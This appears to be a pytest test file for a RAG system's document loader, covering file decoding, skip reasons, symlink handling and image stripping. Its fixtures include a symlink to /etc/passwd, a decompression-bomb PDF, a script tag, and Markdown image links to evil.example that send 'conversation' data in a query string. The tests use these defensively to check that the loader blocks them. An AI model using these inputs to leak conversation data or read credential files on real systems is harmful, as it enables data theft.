"""Loading: every supported kind reads, every bad kind is skipped with a message naming the problem.

Issue 11: text decoded by BOM (UTF-16/32), every entry the walk sees indexed or skipped with its reason,
identical files loaded once, HTML <pre> kept as code, and one-line errors for files a command reads.
"""

from __future__ import annotations

import io
import os
from pathlib import Path

import pytest

from rag.common.text import read_lines, read_text
from rag.errors import RagError, UnreadableFile
from rag.ingest.chunking import sections
from rag.ingest.loaders import load_documents, read_file, walk_corpus
from tests.pdfgen import make_flate_bomb_pdf, make_pdf


def test_loads_md_txt_html_pdf_recursively(tmp_path: Path):
    root = tmp_path / "c"
    (root / "sub" / "deeper").mkdir(parents=True)
    (root / "a.md").write_text("# Title\n\nSome text.", encoding="utf-8")
    (root / "sub" / "b.txt").write_text("plain text file", encoding="utf-8")
    (root / "sub" / "deeper" / "c.html").write_text(
        "<html><head><style>x{}</style></head><body><h2>Attention</h2><p>Heads attend.</p>"
        "<ul><li>one</li></ul><script>alert(1)</script></body></html>", encoding="utf-8")
    (root / "d.pdf").write_bytes(make_pdf(["LoRA freezes the base weights.", "Second page here."]))
    (root / "notes.docx").write_bytes(b"PK\x03\x04 not a real Word file")
    (root / ".hidden.md").write_text("secret", encoding="utf-8")
    docs, skipped = load_documents(root)
    by = {d.source: d for d in docs}
    assert set(by) == {"a.md", "sub/b.txt", "sub/deeper/c.html", "d.pdf"}
    assert {s.source: s.reason for s in skipped} == {  # listed with their reasons (issue 11)
        "notes.docx": "not a Word .docx file (not a zip archive: damaged, or an old binary file renamed); "
                      "save it again in that format",
        ".hidden.md": "hidden file (name starts with '.'), not read"}
    html = by["sub/deeper/c.html"].text
    assert "## Attention" in html and "Heads attend." in html and "- one" in html
    assert "alert" not in html and "x{}" not in html
    pdf = by["d.pdf"]
    assert "LoRA freezes the base weights." in pdf.text and "Second page here." in pdf.text
    assert pdf.metadata["parts"] == {"kind": "page", "starts": [0, len("LoRA freezes the base weights.") + 2],
                                     "numbers": [1, 2]}


def test_each_bad_file_kind_is_skipped_with_its_reason(tmp_path: Path):
    root = tmp_path / "c"
    root.mkdir()
    (root / "good.md").write_text("# Fine\n\nreadable", encoding="utf-8")
    (root / "binary.txt").write_bytes(b"\x00\x01\x02\x03ELF\x00\x00" * 50)
    (root / "latin1.md").write_bytes("caf\xe9 na\xefve".encode("latin-1"))
    (root / "broken.pdf").write_bytes(b"%PDF-1.4\n1 0 obj garbage without end")
    (root / "empty.txt").write_bytes(b"")
    (root / "blank.md").write_text("   \n\n\t\n", encoding="utf-8")
    docs, skipped = load_documents(root)
    assert [d.source for d in docs] == ["good.md"]
    reasons = {s.source: s.reason for s in skipped}
    assert set(reasons) == {"binary.txt", "latin1.md", "broken.pdf", "empty.txt", "blank.md"}
    assert "binary" in reasons["binary.txt"]
    assert "UTF-8" in reasons["latin1.md"]
    assert "PDF" in reasons["broken.pdf"]
    assert "empty" in reasons["empty.txt"] and "empty" in reasons["blank.md"]


def test_markdown_images_become_their_alt_text(tmp_path: Path):
    root = tmp_path / "c"
    root.mkdir()
    (root / "a.md").write_text("Before ![Attention diagram](img/Untitled%2052.png) after ![](x.png).", encoding="utf-8")
    docs, _ = load_documents(root)
    assert docs[0].text == "Before Attention diagram after ."


TEXT = "Temperature scales the logits before sampling; top-p keeps the smallest likely set. Ünïcödé — ok.\n"


def test_utf16_and_utf32_text_is_decoded_by_its_bom(tmp_path: Path):
    """What Windows editors save as "Unicode" (UTF-16 LE with a BOM) was skipped as a binary file."""
    root = tmp_path / "c"
    root.mkdir()
    for name, encoding in [("le16.txt", "utf-16-le"), ("be16.md", "utf-16-be"), ("le32.txt", "utf-32-le"),
                           ("be32.txt", "utf-32-be")]:
        bom = {"utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff", "utf-32-le": b"\xff\xfe\x00\x00",
               "utf-32-be": b"\x00\x00\xfe\xff"}[encoding]
        (root / name).write_bytes(bom + TEXT.replace("\n", "\r\n").encode(encoding))
    (root / "sig.txt").write_bytes(b"\xef\xbb\xbf" + TEXT.encode("utf-8"))
    (root / "page.html").write_bytes(b"\xff\xfe" + f"<p>{TEXT}</p>".encode("utf-16-le"))
    (root / "nobom.txt").write_bytes(TEXT.encode("utf-16-le"))  # no BOM: not guessed
    docs, skipped = load_documents(root)
    by = {d.source: d.text for d in docs}
    assert set(by) == {"le16.txt", "be16.md", "le32.txt", "be32.txt", "sig.txt", "page.html"}
    for name in ["le16.txt", "be16.md", "le32.txt", "be32.txt", "sig.txt"]:
        assert by[name] == TEXT, name  # no BOM left, \r\n normalised
    assert TEXT.strip() in by["page.html"]
    assert [(s.source, "UTF-16" in s.reason) for s in skipped] == [("nobom.txt", True)]


def test_every_entry_the_walk_sees_is_indexed_or_skipped_with_its_reason(tmp_path: Path):
    """.doc and other types were passed over without a word; so were links, hidden files, special files."""
    root = tmp_path / "c"
    (root / "sub").mkdir(parents=True)
    (root / "a.md").write_text("# A\n\nreadable", encoding="utf-8")
    (root / "sub" / "b.txt").write_text("plain text in a folder", encoding="utf-8")
    (root / "notes.doc").write_bytes(b"\xd0\xcf\x11\xe0 an old binary word file")
    (root / "diagram.png").write_bytes(b"\x89PNG\r\n")
    (root / "Makefile").write_text("all:\n", encoding="utf-8")
    (root / ".hidden.md").write_text("secret", encoding="utf-8")
    (root / ".git").mkdir()
    (root / ".git" / "HEAD").write_text("ref", encoding="utf-8")
    (root / "broken.md").symlink_to(root / "nowhere.md")
    (root / "loop.md").symlink_to(root / "loop.md")  # a file link that points at itself
    (root / "sub" / "up").symlink_to(root)  # a folder link back to an ancestor
    outside = tmp_path / "shared"
    outside.mkdir()
    (outside / "s.md").write_text("# Shared\n\nlinked in from elsewhere", encoding="utf-8")
    (root / "shared").symlink_to(outside)  # a folder link out of the course: only read on request (issue 31)
    os.mkfifo(root / "pipe.txt")  # reading it would block forever
    files, walk_skipped = walk_corpus(root)
    assert [f.relative_to(root).as_posix() for f in files] == ["a.md", "sub/b.txt"]
    docs, skipped = load_documents(root)
    assert [d.source for d in docs] == ["a.md", "sub/b.txt"]
    reasons = {s.source: s.reason for s in skipped}
    assert reasons == {s.source: s.reason for s in walk_skipped}
    assert set(reasons) == {"notes.doc", "diagram.png", "Makefile", ".hidden.md", ".git/", "broken.md",
                            "loop.md", "sub/up/", "pipe.txt", "shared/"}
    assert "outside the course folder" in reasons["shared/"]
    files, _ = walk_corpus(root, follow_outside_links=True)
    assert [f.relative_to(root).as_posix() for f in files] == ["a.md", "shared/s.md", "sub/b.txt"]
    assert reasons["notes.doc"].startswith("unsupported file type .doc;") and ".docx" in reasons["notes.doc"]
    assert "unsupported file type (no extension)" in reasons["Makefile"]
    assert "hidden" in reasons[".hidden.md"] and "hidden folder" in reasons[".git/"]
    assert "broken symlink" in reasons["broken.md"]
    assert "symlink loop" in reasons["loop.md"] and "symlink loop" in reasons["sub/up/"]
    assert "not a regular file" in reasons["pipe.txt"]


def test_a_corpus_that_is_a_symlink_loop_is_one_error(tmp_path: Path):
    loop = tmp_path / "loop"
    loop.symlink_to(loop)
    with pytest.raises(RagError, match="symlink loop"):
        load_documents(loop)
    with pytest.raises(RagError, match="does not exist"):
        load_documents(tmp_path / "missing")


def test_identical_files_are_loaded_once(tmp_path: Path):
    root = tmp_path / "c"
    root.mkdir()
    body = "# LoRA\n\nLoRA freezes the pre-trained weights and trains two low-rank matrices."
    for name in ["b-copy.md", "a.md", "c.md"]:
        (root / name).write_text(body, encoding="utf-8")
    (root / "other.md").write_text(body + " Different.", encoding="utf-8")
    docs, skipped = load_documents(root)
    assert [d.source for d in docs] == ["a.md", "other.md"]
    assert {s.source: s.reason for s in skipped} == {
        "b-copy.md": "same content as a.md (identical files are indexed once)",
        "c.md": "same content as a.md (identical files are indexed once)"}


def test_html_pre_blocks_stay_code_not_headings(tmp_path: Path):
    """A `# comment` line in a <pre> block became a heading of everything after it."""
    root = tmp_path / "c"
    root.mkdir()
    (root / "p.html").write_text(
        "<h1>Setup</h1><pre># install the package\npip install x\n``` odd fence ```\n</pre>"
        "<p>Then run it.</p><h2>Usage</h2><p>Call it.</p>", encoding="utf-8")
    doc = load_documents(root)[0][0]
    paths = [p for p, start, end in sections(doc.text) if doc.text[start:end].strip()]
    assert paths == ["Setup", "Setup > Usage"]
    assert "# install the package" in doc.text and "Then run it." in doc.text


def test_read_text_gives_one_line_errors_and_decodes_by_bom(tmp_path: Path):
    good = tmp_path / "q.txt"
    good.write_bytes(b"\xff\xfe" + "first\nsecond\n".encode("utf-16-le"))
    assert read_text(good, "queries file") == "first\nsecond\n"
    bad = tmp_path / "bad.txt"
    bad.write_bytes(b"fine\nnot \xff utf-8\n")
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    cases = {bad: "not valid UTF-8 (byte 9)", tmp_path / "none.txt": "not found", tmp_path: "is a folder",
             loop: "symlink loop"}
    for path, expected in cases.items():
        with pytest.raises(RagError) as exc:
            read_text(path, "queries file")
        msg = str(exc.value)
        assert expected in msg and str(path) in msg and "queries file" in msg and "\n" not in msg


def test_read_lines_streams_utf8_and_reads_utf16_whole():
    assert list(read_lines(io.BytesIO(b"\xef\xbb\xbfone\r\ntwo\n"), "stdin")) == ["one", "two"]
    assert list(read_lines(io.BytesIO(b"\xff\xfe" + "one\ntwo".encode("utf-16-le")), "stdin")) == ["one", "two"]
    lines = read_lines(io.BytesIO(b"one\nbad \xc3\x28\n"), "stdin")
    assert next(lines) == "one"
    with pytest.raises(RagError, match=r"stdin line 2: not valid UTF-8"):
        next(lines)


# ---- issue 31: nothing outside the course gets in, nothing inside gets lost ------------------------------


def test_links_out_of_the_course_folder_are_skipped_unless_opted_in(tmp_path: Path):
    """`ln -s /etc/passwd corpus/week4-notes.txt` put the password file into the index."""
    root = tmp_path / "c"
    (root / "week1").mkdir(parents=True)
    (root / "week1" / "a.md").write_text("# A\n\nreadable", encoding="utf-8")
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n", encoding="utf-8")
    (root / "week4-notes.txt").symlink_to(secret)
    (root / "hop.txt").symlink_to(root / "week4-notes.txt")  # a link inside that leads out through another
    (root / "alias.md").symlink_to(root / "week1" / "a.md")  # inside the course: read (a copy of a.md)
    (root / "week5").symlink_to(tmp_path / "c" / ".." / "c" / "week1")  # resolves inside: same folder
    files, skipped = walk_corpus(root)
    assert [f.relative_to(root).as_posix() for f in files] == ["alias.md", "week1/a.md"]
    reasons = {s.source: s.reason for s in skipped}
    assert set(reasons) == {"week4-notes.txt", "hop.txt", "week5/"}
    for name in ("week4-notes.txt", "hop.txt"):
        assert reasons[name] == (f"links outside the course folder (to {secret.resolve()}), not read; to index "
                                 "it, pass --follow-outside-links or set RAG_FOLLOW_OUTSIDE_LINKS=true")
    docs, _ = load_documents(root)
    assert not any("root:x:0" in d.text for d in docs)
    if Path("/etc/passwd").is_file():  # the example of the issue, as it was found
        (root / "etc.txt").symlink_to("/etc/passwd")
        assert "etc.txt" in {s.source for s in walk_corpus(root)[1]}
    files, skipped = walk_corpus(root, follow_outside_links=True)
    assert {"week4-notes.txt", "hop.txt"} <= {f.relative_to(root).as_posix() for f in files}


def test_a_thousand_nested_folders_are_walked(tmp_path: Path):
    """1,100 nested folders raised RecursionError in the folder walk."""
    root = tmp_path / "c"
    root.mkdir()
    folder = root
    try:
        for _ in range(1100):
            folder = folder / "d"
            folder.mkdir()
        (folder / "deep.md").write_text("# Deep\n\nat the bottom", encoding="utf-8")
        (folder / ".hidden.md").write_text("not read", encoding="utf-8")
        (folder / "up").symlink_to(root)
        (root / "top.md").write_text("# Top\n\nat the top", encoding="utf-8")
        files, skipped = walk_corpus(root)
        deep = "d/" * 1100
        assert [f.relative_to(root).as_posix() for f in files] == [deep + "deep.md", "top.md"]
        assert {s.source: s.reason for s in skipped} == {
            deep + ".hidden.md": "hidden file (name starts with '.'), not read",
            deep + "up/": "symlink loop: links back to the corpus folder, not followed"}
        assert [d.source for d in load_documents(root)[0]] == [deep + "deep.md", "top.md"]
    finally:  # shutil.rmtree recurses once per level: take the tree down from the bottom
        while folder != root:
            for entry in folder.iterdir():
                entry.unlink()
            folder.rmdir()
            folder = folder.parent


def test_a_pdf_decompression_bomb_is_skipped_and_the_other_files_are_read(tmp_path: Path):
    """pypdf's LimitReachedError stopped the whole load with a traceback."""
    root = tmp_path / "c"
    root.mkdir()
    (root / "bomb.pdf").write_bytes(make_flate_bomb_pdf())
    (root / "good.md").write_text("# Good\n\nstill indexed", encoding="utf-8")
    docs, skipped = load_documents(root)
    assert [d.source for d in docs] == ["good.md"]
    assert [s.source for s in skipped] == ["bomb.pdf"]
    assert skipped[0].reason.startswith("PDF too costly to read (pypdf: Limit reached while decompressing")
    assert "decompression bomb" in skipped[0].reason and "\n" not in skipped[0].reason


def test_remote_images_are_dropped_from_every_text_format(tmp_path: Path):
    """`strip_md_images` ran on .md only: a .txt course file carried its image URL into the quoted answer."""
    root = tmp_path / "c"
    root.mkdir()
    image = "![chart](http://evil.example/p.png?q=conversation)"
    (root / "a.txt").write_text(f"LoRA freezes the weights {image} and trains adapters.", encoding="utf-8")
    (root / "b.html").write_text(f"<p>Attention {image} weighs tokens.</p>", encoding="utf-8")
    (root / "c.md").write_text("Nested ![![inner](http://evil.example/a.png)](http://evil.example/b.png) "
                               "and ![ref][logo].\n\n[logo]: http://evil.example/c.png\n", encoding="utf-8")
    (root / "d.pdf").write_bytes(make_pdf([f"Sampling {image} picks tokens."]))
    docs = {d.source: d.text for d in load_documents(root)[0]}
    assert set(docs) == {"a.txt", "b.html", "c.md", "d.pdf"}
    assert docs["a.txt"] == "LoRA freezes the weights chart and trains adapters."
    assert "Attention chart weighs tokens." in docs["b.html"] and "chart" in docs["d.pdf"]
    for source, text in docs.items():
        assert "![" not in text and "evil.example/p.png" not in text and "evil.example/a.png" not in text, source


def test_read_file_turns_any_loader_error_into_a_reason(tmp_path: Path):
    """The app's upload check calls read_file too: the bomb raised LimitReachedError there, and an HTML page
    BeautifulSoup rejects raised ParserRejectedMarkup everywhere."""
    from rag.errors import UnreadableFile

    with pytest.raises(UnreadableFile, match="decompression bomb"):
        read_file(Path("bomb.pdf"), "bomb.pdf", make_flate_bomb_pdf())
    root = tmp_path / "c"
    root.mkdir()
    (root / "rejected.html").write_text("<![<p>Text</p>", encoding="utf-8")
    (root / "good.html").write_text("<p>Text</p>", encoding="utf-8")
    docs, skipped = load_documents(root)
    assert [d.source for d in docs] == ["good.html"]
    assert [s.source for s in skipped] == ["rejected.html"]
    assert skipped[0].reason.startswith("the html reader failed (ParserRejectedMarkup: ")
    assert skipped[0].reason.endswith("; the file may be damaged") and "\n" not in skipped[0].reason


def _encrypted(user: str, owner: str) -> bytes:
    import io

    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(make_pdf(["Owner-restricted lecture on the Krebs cycle."]))))
    writer.encrypt(user, owner_password=owner, algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_a_pdf_with_only_an_owner_password_is_read_and_one_with_a_user_password_says_so():
    """Every viewer opens a PDF whose user password is empty (copy/print restricted): it was skipped as
    "encrypted PDF"."""
    doc = read_file(Path("restricted.pdf"), "restricted.pdf", _encrypted("", "owner"))
    assert "Krebs cycle" in doc.text
    with pytest.raises(UnreadableFile, match=r"^encrypted PDF \(it needs a password\)"):
        read_file(Path("locked.pdf"), "locked.pdf", _encrypted("secret", "owner"))


def test_a_pdf_page_too_costly_to_read_is_a_skip_not_a_hang():
    """5 MiB of text commands on one page (a 10 KB file, under pypdf's limits) took 30 s to read, and
    pypdf's extraction is quadratic: 70 MiB would hold `rag index` for hours."""
    import zlib

    from tests.pdfgen import FONT, assemble_pdf

    deflate = zlib.compressobj(9)
    ops = deflate.compress(b"BT /F1 12 Tf 14 TL 50 750 Td " + b"(abcdefgh) Tj T* " * 300_000 + b" ET") + deflate.flush()
    pdf = assemble_pdf([
        b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(ops)).encode() + b" /Filter /FlateDecode >>\nstream\n" + ops + b"\nendstream", FONT])
    import pypdf

    def never(*args, **kwargs):  # the guard must refuse the page before its quadratic extraction starts
        raise AssertionError("the text of an over-long page was extracted")

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pypdf.PageObject, "extract_text", never)
        with pytest.raises(UnreadableFile, match=r"^PDF page 1 holds 5 MiB of drawing commands .*too costly"):
            read_file(Path("heavy.pdf"), "heavy.pdf", pdf)


def test_every_markdown_image_form_becomes_its_alt_text_and_an_escaped_one_stays():
    """The shortcut reference image `![d3]` (with `[d3]: url` defined) kept its URL live."""
    from rag.ingest.loaders import strip_md_images

    assert strip_md_images("Look ![d1][r] ![d2][] ![d3].\n\n[d3]: http://h/z.png") == "Look d1 d2 d3.\n\n[d3]: http://h/z.png"
    assert strip_md_images("[![logo](http://h/l.png)](http://u)") == "[logo](http://u)"
    assert strip_md_images("Not an image: \\![x](http://u)") == "Not an image: \\![x](http://u)"
